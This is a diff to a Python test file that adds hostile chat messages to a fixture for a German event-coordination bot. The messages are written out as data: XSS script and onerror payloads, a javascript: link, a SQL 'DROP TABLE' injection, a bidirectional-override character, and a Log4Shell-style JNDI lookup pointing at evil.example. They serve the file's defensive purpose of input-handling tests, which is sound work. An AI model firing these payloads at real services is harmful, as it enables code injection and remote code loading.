@@ -160,6 +160,17 @@ HOSTILE_MESSAGES: list[tuple[str, dict[str, Any]]] = [
     ("!status", {}),  # coordinators only: refused, politely
     ("!faq-statistik", {}),
     ("!antworten q1 <script>x</script>", {}),
+    # Registration, reminders, summaries (no event configured: each explains what is missing).
+    ("!anmelden <script>x</script>", {}),
+    ("!anmelden plenum-2027 ; <img src=x onerror=alert(1)> @room", {}),
+    ("!organisation <a href='javascript:alert(1)'>Stadt</a> @room '; DROP TABLE x; --", {}),
+    ("!veranstaltungen", {}),
+    ("!meine-anmeldungen", {}),
+    ("!erinnerung in 1 Stunde; @room <b>alle</b>", {}),  # coordinators only
+    ("!erinnere-mich in 1 Stunde; <script>x</script> @room", {}),
+    ("!erinnere-mich 31.02.2027 9 Uhr; ungültig", {}),
+    ("!notiz ‮<i>x</i> @room", {}),
+    ("!aufgaben ${jndi:ldap://evil.example/a}", {}),
     ("@room ! hilfe", {}),  # not a command: no reply
     ("!", {}),  # not a command
 ]
